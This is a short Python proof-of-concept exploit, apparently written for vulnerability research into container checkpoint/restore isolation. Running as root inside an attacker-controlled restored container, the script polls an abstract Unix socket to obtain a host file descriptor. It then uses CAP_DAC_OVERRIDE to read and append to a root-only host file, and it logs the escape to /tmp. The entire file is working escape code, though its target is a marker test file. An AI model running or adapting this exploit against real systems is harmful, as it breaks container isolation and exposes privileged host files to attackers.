"""attack30l: the checkpointed container's process (root in a container the attacker runs): every 0.2 s it tries
the abstract socket @attack30l-fd (only reachable if its network namespace is the local user's); given an fd, it
reads and appends to a root-only host file relative to it, with the container root's CAP_DAC_OVERRIDE."""
import array, os, socket, time
i = 0
while True:
    i += 1
    open("/tmp/count", "w").write(str(i))
    try:
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); c.connect("\0attack30l-fd")
        fds = array.array("i")
        msg, anc, _, _ = c.recvmsg(16, socket.CMSG_LEN(4))
        fds.frombytes(anc[0][2][:4])
        target = "var/tmp/attack30l-victim/root-only.txt"
        before = open(os.open(target, os.O_RDONLY, dir_fd=fds[0])).read()
        with open(os.open(target, os.O_WRONLY | os.O_APPEND, dir_fd=fds[0]), "w") as f:
            f.write("written by the restored container's root through the user's fd\n")
        open("/tmp/escape", "w").write(f"read host file: {before!r}; appended a line\n")
        break
    except OSError as e:
        open("/tmp/last-error", "w").write(repr(e))
    time.sleep(0.2)
while True:
    time.sleep(1)
